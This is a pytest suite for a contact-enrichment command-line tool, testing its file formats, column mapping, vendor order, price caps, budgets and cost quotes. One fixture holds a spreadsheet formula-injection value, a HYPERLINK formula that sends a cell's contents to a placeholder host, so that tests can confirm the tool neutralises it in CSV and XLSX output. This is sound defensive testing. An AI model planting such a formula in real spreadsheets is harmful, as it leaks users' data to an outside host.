"""Formats in and out, and every option of the command line that changes what is asked, spent or written."""

import csv
import json
from collections.abc import Mapping
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest

pytestmark = pytest.mark.usefixtures("waterfall")

FAST = ("--exclude", "icypeas,dropcontact")  # who answers without tickets
FORMATS = ("csv", "xlsx", "json", "jsonl")
_NOTE = '=HYPERLINK("http://sandbox.invalid/?x="&A1,"click me")'

Headwater = Any
Sample = Any
Row = Mapping[str, str]


@pytest.fixture(scope="module")
def people(crowd: Sample) -> list[dict[str, str]]:
    """A dozen people, one with a note that a spreadsheet would run and one with accents."""
    found = [dict(row) for row in crowd.people(0, 12)]
    found[0] |= {"Notes": _NOTE, "Phone": "+44 7700 900123"}
    found[1] |= {"Notes": "naïve – “quoted”, with a comma\nand a second line"}
    return found


def _source(headwater: Headwater, name: str, rows: list[dict[str, str]]) -> Path:
    path: Path = headwater.folder / name
    if path.suffix == ".csv":
        return Path(headwater.write(name, rows))
    if path.suffix == ".json":
        path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    elif path.suffix == ".jsonl":
        path.write_text("\n".join(json.dumps(row) for row in rows) + "\n", encoding="utf-8")
    else:
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        for number, cells in enumerate([list(rows[0]), *(list(row.values()) for row in rows)], 1):
            for column, text in enumerate(cells, 1):
                cell = sheet.cell(number, column, text or None)
                cell.data_type = "s" if text else "n"  # text, even where it looks like a formula
        book.save(path)
    return path


@pytest.fixture(scope="module")
def formats(headwater: Headwater, people: list[dict[str, str]]) -> dict[str, dict[str, Any]]:
    """The same people in four formats, one run after the other; only the first one pays. Summaries by format."""
    found = {}
    for suffix in FORMATS:
        source = _source(headwater, f"in.{suffix}", people)
        output = f"out.{ {'csv': 'jsonl', 'xlsx': 'csv', 'json': 'xlsx', 'jsonl': 'parquet'}[suffix]}"
        found[suffix] = headwater.enrich(source, output, "--want", "email,title", *FAST)
    return found


def _written(headwater: Headwater, suffix: str) -> list[dict[str, Any]]:
    path = headwater.folder / f"out.{suffix}"
    if suffix == "csv":
        return list(headwater.read("out.csv"))
    if suffix == "jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    if suffix == "json":
        return list(json.loads(path.read_text(encoding="utf-8")))
    if suffix == "parquet":
        return pl.read_parquet(path).to_dicts()
    header, *rows = openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True)
    return [dict(zip(map(str, header), row, strict=True)) for row in rows]


@pytest.mark.parametrize("suffix", FORMATS)
def test_every_input_format_is_read_as_the_same_people(formats: dict[str, dict[str, Any]], suffix: str) -> None:
    summary, first = formats[suffix], formats["csv"]
    assert summary["rows"] == {"in": 12, "out": 12, "rejected": 0, "duplicates": 0}
    assert summary["found"] == first["found"]
    assert sum(first["found"].values()) > 0
    if suffix != "csv":
        assert summary["vendors"] == {}  # they were recognised: nobody was asked again


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "jsonl", "parquet"])
def test_every_output_format_holds_the_same_values(
    headwater: Headwater, formats: dict[str, dict[str, Any]], people: list[dict[str, str]], suffix: str
) -> None:
    rows = _written(headwater, suffix)
    assert [row["Last Name"] for row in rows] == [row["Last Name"] for row in people]
    expected = {row["Last Name"]: row["hw_email"] or None for row in _written(headwater, "jsonl")}
    assert {row["Last Name"]: row["hw_email"] or None for row in rows} == expected
    assert any(expected.values())


def test_json_out(headwater: Headwater, formats: dict[str, dict[str, Any]]) -> None:
    headwater.enrich(headwater.folder / "in.csv", "out.json", "--want", "email,title", *FAST)
    kept = {"hw_outcome", "hw_cost_usd"}
    rows = [[{k: v for k, v in row.items() if k not in kept} for row in _written(headwater, s)] for s in ("json", "jsonl")]
    assert rows[0] == rows[1]


def test_original_cells_are_verbatim_where_the_format_can_not_run_them(
    headwater: Headwater, formats: dict[str, dict[str, Any]], people: list[dict[str, str]]
) -> None:
    for row, original in zip(_written(headwater, "jsonl"), people, strict=True):
        assert {name: row[name] or "" for name in original} == original


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_formulas_are_harmless_and_phone_numbers_keep_their_plus(
    headwater: Headwater, formats: dict[str, dict[str, Any]], suffix: str
) -> None:
    row = _written(headwater, suffix)[0]
    assert row["Phone"].startswith("'+44 7") if suffix == "csv" else row["Phone"] == "+44 7700 900123"
    if suffix == "csv":
        assert row["Notes"] == f"'{_NOTE}"
        return
    sheet = openpyxl.load_workbook(headwater.folder / "out.xlsx").worksheets[0]
    assert [cell.data_type for line in sheet.iter_rows() for cell in line].count("f") == 0
    assert row["Notes"] == _NOTE


def test_phone_numbers_we_deliver_keep_their_plus(headwater: Headwater, formats: dict[str, dict[str, Any]]) -> None:
    for output in ("phones.csv", "phones.xlsx"):
        headwater.enrich(headwater.folder / "in.csv", output, "--want", "phone", "--exclude", "hunter,apollo,icypeas,dropcontact")
    sheet = openpyxl.load_workbook(headwater.folder / "phones.xlsx").worksheets[0]
    header, first, *_ = [[cell.value for cell in line] for line in sheet.iter_rows()]
    assert headwater.read("phones.csv")[0]["hw_phone"] == first[header.index("hw_phone")] == "+447700900123"


def test_format_wins_over_the_suffix(headwater: Headwater, formats: dict[str, dict[str, Any]]) -> None:
    headwater.enrich(headwater.folder / "in.csv", "odd.txt", "--format", "jsonl", *FAST)
    assert json.loads((headwater.folder / "odd.txt").read_text(encoding="utf-8").splitlines()[0])["hw_row"] == "accepted"


def test_columns_chooses_and_orders(headwater: Headwater, formats: dict[str, dict[str, Any]]) -> None:
    headwater.enrich(headwater.folder / "in.csv", "few.csv", "--columns", "hw_email, Last Name,hw_contact_id", *FAST)
    rows = headwater.read("few.csv")
    assert list(rows[0]) == ["hw_email", "Last Name", "hw_contact_id"]
    assert len(rows) == 12


def test_an_enriched_file_can_be_enriched_again(headwater: Headwater, formats: dict[str, dict[str, Any]]) -> None:
    """Its columns of ours stay one of each, in their place, with the values of now."""
    before = headwater.read("out.csv")
    stale = [row | {"hw_email": "stale@nowhere.invalid", "hw_email_source": "yesterday"} for row in before]
    source = headwater.write("once.csv", stale)
    headwater.enrich(source, "twice.csv", "--want", "email,title", "--map", "hw_email=", *FAST)
    with (headwater.folder / "twice.csv").open(newline="", encoding="utf-8") as file:
        header = next(csv.reader(file))
    assert header == list(before[0])
    assert [row["hw_email"] for row in headwater.read("twice.csv")] == [row["hw_email"] for row in before]


def test_map_gives_a_column_its_meaning(headwater: Headwater, crowd: Sample) -> None:
    rows = [
        {"Alpha": f"{row['First Name']} {row['Last Name']}", "Beta": row["Company"], "Gamma": "ada@engine-hw.com"}
        for row in crowd.people(12, 14)
    ]
    source = headwater.write("odd headers.csv", rows)
    refused = headwater.run("enrich", source, "-o", "mapped.csv", "--sandbox", code=2)
    assert "no usable column" in refused.stderr
    mapping = ("--map", "Alpha=full_name", "--map", "Beta=company", "--map", "Gamma=")
    headwater.enrich(source, "mapped.csv", *mapping, "--exclude", "hunter,apollo,icypeas,dropcontact")
    contact = headwater.read("mapped.csv")[0]["hw_contact_id"]
    assert headwater.json("contacts", "show", contact)["name"] == rows[0]["Alpha"]
    assert [row["hw_email"] for row in headwater.read("mapped.csv")] == ["", ""]  # Gamma was told to mean nothing


def test_want_decides_what_is_found_and_written(headwater: Headwater, crowd: Sample) -> None:
    source = headwater.write("want.csv", crowd.people(14, 24))
    summary = headwater.enrich(source, "want.jsonl", "--want", "linkedin,company", *FAST)
    assert set(summary["found"]) == {"linkedin", "company"}
    row = json.loads((headwater.folder / "want.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert {"hw_linkedin", "hw_company"} <= set(row)
    assert not {"hw_email", "hw_phone", "hw_title"} & set(row)


@pytest.mark.parametrize(("order", "slice_"), [("hunter,apollo", (24, 36)), ("apollo,hunter", (36, 48))])
def test_order_says_who_is_asked_first(
    headwater: Headwater, crowd: Sample, order: str, slice_: tuple[int, int]
) -> None:
    source = headwater.write(f"{order}.csv", crowd.people(*slice_))
    before = len(headwater.requests())
    summary = headwater.enrich(source, f"{order}-out.csv", "--order", order, *FAST)
    first, second = order.split(",")
    asked = [request["vendor"] for request in headwater.requests()[before:]]
    assert asked[0] == first
    # Everybody is asked of the first one, and of the second only those whom the first did not know.
    assert summary["vendors"][first]["records"] >= 12
    assert summary["vendors"][second]["records"] < summary["vendors"][first]["records"]


def test_exclude_leaves_vendors_and_patterns_out(headwater: Headwater, crowd: Sample) -> None:
    source = headwater.write("exclude.csv", crowd.people(48, 58))
    before = headwater.meter()
    summary = headwater.enrich(source, "exclude-out.csv", "--exclude", "hunter,icypeas,dropcontact,pattern")
    assert set(summary["vendors"]) == {"apollo"}
    after = headwater.meter()
    assert [after[name]["calls"] - before[name]["calls"] for name in ("hunter", "icypeas", "dropcontact")] == [0, 0, 0]
    assert not any("pattern" in row["hw_email_source"] for row in headwater.read("exclude-out.csv"))


def test_max_price_holds_for_every_contact(headwater: Headwater, crowd: Sample) -> None:
    source = headwater.write("cheap.csv", crowd.people(58, 78))
    summary = headwater.enrich(source, "cheap-out.csv", "--want", "email,title", "--max-price", "0.02", *FAST)
    costs = [Decimal(row["hw_cost_usd"]) for row in headwater.read("cheap-out.csv")]
    assert max(costs) <= Decimal("0.02")
    assert sum(costs) == Decimal(summary["spent_usd"]) > 0
    # With more to spend, more is spent on some of them.
    headwater.enrich(source, "dear-out.csv", "--want", "email,title", *FAST)
    more = [Decimal(row["hw_cost_usd"]) for row in headwater.read("dear-out.csv")]
    assert sum(more) > 0


def test_budget_holds_for_the_whole_job(headwater: Headwater, crowd: Sample) -> None:
    source = headwater.write("budget.csv", crowd.people(78, 103))
    before = _credits(headwater)
    summary = headwater.enrich(source, "budget-out.csv", "--want", "email,title", "--budget", "0.05", *FAST)
    after = _credits(headwater)
    assert summary["state"] == "done"
    spent = sum((after[name] - before[name]) * price for name, price in _PRICES.items())
    assert Decimal(0) < spent == Decimal(summary["spent_usd"]) <= Decimal("0.05")
    assert len(headwater.read("budget-out.csv")) == 25


_PRICES = {"hunter": Decimal("0.0149"), "apollo": Decimal("0.02")}


def _credits(headwater: Headwater) -> dict[str, Decimal]:
    meter = headwater.meter()
    return {name: Decimal(meter[name]["credits"]) for name in _PRICES}


def test_min_confidence_moves_doubtful_addresses_to_their_own_column(
    headwater: Headwater, formats: dict[str, dict[str, Any]]
) -> None:
    rows = {}
    for level in ("0.99", "0.3"):
        source = headwater.folder / "in.csv"
        headwater.enrich(source, f"sure{level}.csv", "--min-confidence", level, "--exclude", "hunter,apollo,icypeas,dropcontact")
        rows[level] = headwater.read(f"sure{level}.csv")
    strict, easy = rows["0.99"], rows["0.3"]
    assert all(float(row["hw_email_confidence"]) >= 0.99 for row in strict if row["hw_email"])
    assert sum(bool(row["hw_email"]) for row in strict) < sum(bool(row["hw_email"]) for row in easy)
    for doubtful, sure in zip(strict, easy, strict=True):
        if sure["hw_email"] and not doubtful["hw_email"]:
            assert doubtful["hw_email_unsure"] == sure["hw_email"]


@pytest.fixture(scope="module")
def quotes(headwater: Headwater, crowd: Sample) -> dict[str, Any]:
    """Quotes for one file, with and without limits."""
    source = headwater.write("quote.csv", [*crowd.people(103, 123), dict.fromkeys(crowd.people(0, 1)[0], "") | {"Notes": "x"}])
    options: dict[str, tuple[str, ...]] = {
        "plain": (), "email and phone": ("--want", "email,phone"), "capped": ("--max-price", "0.01"),
        "budget": ("--budget", "0.05"), "without apollo": ("--exclude", "apollo"),
    }  # fmt: skip
    with ThreadPoolExecutor(2) as pool:
        found = pool.map(lambda each: headwater.json("quote", source, "--sandbox", *each), options.values())
        return dict(zip(options, found, strict=True))


def test_quote_as_json(quotes: dict[str, Any], headwater: Headwater) -> None:
    plain = quotes["plain"]
    assert (plain["rows"], plain["rejected"], plain["people"]) == (21, 1, 20)
    assert Decimal(0) < Decimal(plain["expected_usd"]) < Decimal(plain["at_most_usd"])
    assert 0 < plain["expected_finds"]["email"] <= 20
    assert plain["columns"]["Work Email"] == "email"
    assert set(plain["expected_by_vendor_usd"]) <= {"hunter", "apollo", "icypeas", "dropcontact"}


def test_quote_follows_the_options(quotes: dict[str, Any]) -> None:
    most = {name: Decimal(quote["at_most_usd"]) for name, quote in quotes.items()}
    assert most["email and phone"] > most["plain"] > most["without apollo"]
    assert most["capped"] == 20 * Decimal("0.01")
    assert most["budget"] == Decimal("0.05")
    assert "apollo" not in quotes["without apollo"]["expected_by_vendor_usd"]


def test_a_job_never_spends_more_than_its_quote(quotes: dict[str, Any], headwater: Headwater) -> None:
    summary = headwater.enrich(headwater.folder / "quote.csv", "quoted.csv", "--want", "email", *FAST)
    assert Decimal(0) < Decimal(summary["spent_usd"]) <= Decimal(quotes["plain"]["at_most_usd"])


def test_quote_for_people_is_a_table_and_asks_nobody(headwater: Headwater, crowd: Sample) -> None:
    before = len(headwater.requests())
    done = headwater.run("quote", headwater.write("table.csv", crowd.people(123, 133)), "--sandbox")
    assert "expected usd" in done.stdout
    assert "at most usd" in done.stdout
    assert "Work Email: email" in done.stdout
    assert len(headwater.requests()) == before
    assert not (headwater.folder / ".headwater-quote.csv").exists()
